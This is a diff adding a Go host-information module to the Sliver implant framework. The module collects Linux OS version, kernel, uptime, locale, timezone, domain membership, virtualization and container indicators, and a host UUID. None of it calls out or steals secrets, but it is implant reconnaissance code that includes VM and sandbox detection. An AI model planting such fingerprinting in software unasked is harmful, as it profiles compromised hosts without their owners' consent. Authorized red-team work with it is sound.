@@ -0,0 +1,197 @@
+package hostinfo
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+)
+
+func collect(info *HostInfo) {
+	osRelease := readKeyValues("/etc/os-release")
+	if len(osRelease) == 0 {
+		osRelease = readKeyValues("/usr/lib/os-release")
+	}
+	info.OS = osRelease["PRETTY_NAME"]
+	if info.OS == "" {
+		info.OS = osRelease["NAME"]
+	}
+	info.Version = osRelease["VERSION_ID"]
+	info.Build = osRelease["BUILD_ID"]
+
+	if data, err := ioutil.ReadFile("/proc/sys/kernel/osrelease"); err == nil {
+		info.Kernel = strings.TrimSpace(string(data))
+	}
+
+	if data, err := ioutil.ReadFile("/proc/uptime"); err == nil {
+		if fields := strings.Fields(string(data)); 0 < len(fields) {
+			uptime, _ := strconv.ParseFloat(fields[0], 64)
+			info.Uptime = int64(uptime)
+		}
+	}
+
+	info.Locale = locale()
+	info.Timezone = zoneName()
+	info.Domain, info.DomainJoined = domain()
+	virtualization(info)
+	info.HostUUID = hostUUID()
+}
+
+func locale() string {
+	for _, name := range []string{"LC_ALL", "LC_MESSAGES", "LANG"} {
+		if value := os.Getenv(name); value != "" {
+			return value
+		}
+	}
+	for _, path := range []string{"/etc/locale.conf", "/etc/default/locale"} {
+		if value := readKeyValues(path)["LANG"]; value != "" {
+			return value
+		}
+	}
+	return ""
+}
+
+func zoneName() string {
+	if data, err := ioutil.ReadFile("/etc/timezone"); err == nil {
+		return strings.TrimSpace(string(data))
+	}
+	if target, err := os.Readlink("/etc/localtime"); err == nil {
+		if index := strings.Index(target, "zoneinfo/"); index != -1 {
+			return target[index+len("zoneinfo/"):]
+		}
+	}
+	return ""
+}
+
+// domain - Hosts joined with realmd/sssd or winbind, otherwise the samba
+// workgroup if one is configured
+func domain() (string, bool) {
+	for _, line := range readLines("/etc/sssd/sssd.conf") {
+		if key, value := splitKeyValue(line, "="); key == "domains" && value != "" {
+			return strings.TrimSpace(strings.Split(value, ",")[0]), true
+		}
+	}
+	workgroup, realm, security := "", "", ""
+	for _, line := range readLines("/etc/samba/smb.conf") {
+		key, value := splitKeyValue(line, "=")
+		switch key {
+		case "workgroup":
+			workgroup = value
+		case "realm":
+			realm = value
+		case "security":
+			security = strings.ToLower(value)
+		}
+	}
+	if security == "ads" && realm != "" {
+		return realm, true
+	}
+	return workgroup, false
+}
+
+func virtualization(info *HostInfo) {
+	dmi := []string{}
+	for _, name := range []string{"sys_vendor", "product_name", "bios_vendor", "board_vendor"} {
+		if data, err := ioutil.ReadFile(filepath.Join("/sys/class/dmi/id", name)); err == nil {
+			dmi = append(dmi, strings.TrimSpace(string(data)))
+		}
+	}
+	addIndicator(info, matchHypervisors(dmi...)...)
+	if data, err := ioutil.ReadFile("/sys/hypervisor/type"); err == nil {
+		addIndicator(info, matchHypervisors(string(data))...)
+	}
+	if len(info.Virtualization) == 0 {
+		if data, err := ioutil.ReadFile("/proc/cpuinfo"); err == nil {
+			for _, line := range strings.Split(string(data), "\n") {
+				if key, value := splitKeyValue(line, ":"); key == "flags" {
+					for _, flag := range strings.Fields(value) {
+						if flag == "hypervisor" {
+							addIndicator(info, "Hypervisor (cpuid)")
+						}
+					}
+					break
+				}
+			}
+		}
+	}
+
+	if _, err := os.Stat("/.dockerenv"); err == nil {
+		addIndicator(info, "Docker")
+	}
+	if _, err := os.Stat("/run/.containerenv"); err == nil {
+		addIndicator(info, "Podman")
+	}
+	if data, err := ioutil.ReadFile("/proc/1/cgroup"); err == nil {
+		cgroup := string(data)
+		switch {
+		case strings.Contains(cgroup, "kubepods"):
+			addIndicator(info, "Kubernetes")
+		case strings.Contains(cgroup, "docker"):
+			addIndicator(info, "Docker")
+		case strings.Contains(cgroup, "lxc"):
+			addIndicator(info, "LXC")
+		}
+	}
+	if data, err := ioutil.ReadFile("/proc/version"); err == nil && strings.Contains(strings.ToLower(string(data)), "microsoft") {
+		addIndicator(info, "WSL")
+	}
+}
+
+// hostUUID - The SMBIOS UUID is only readable by root, fallback to the machine-id
+func hostUUID() string {
+	for _, path := range []string{"/sys/class/dmi/id/product_uuid", "/etc/machine-id", "/var/lib/dbus/machine-id"} {
+		if data, err := ioutil.ReadFile(path); err == nil {
+			if value := strings.TrimSpace(string(data)); value != "" {
+				return value
+			}
+		}
+	}
+	return ""
+}
+
+func readLines(path string) []string {
+	data, err := ioutil.ReadFile(path)
+	if err != nil {
+		return []string{}
+	}
+	return strings.Split(string(data), "\n")
+}
+
+// readKeyValues - Shell style KEY="value" files
+func readKeyValues(path string) map[string]string {
+	values := map[string]string{}
+	for _, line := range readLines(path) {
+		key, value := splitKeyValue(line, "=")
+		if key != "" && !strings.HasPrefix(key, "#") {
+			values[key] = strings.Trim(value, `"'`)
+		}
+	}
+	return values
+}
+
+func splitKeyValue(line string, sep string) (string, string) {
+	parts := strings.SplitN(line, sep, 2)
+	if len(parts) != 2 {
+		return "", ""
+	}
+	return strings.TrimSpace(parts[0]), strings.TrimSpace(parts[1])
+}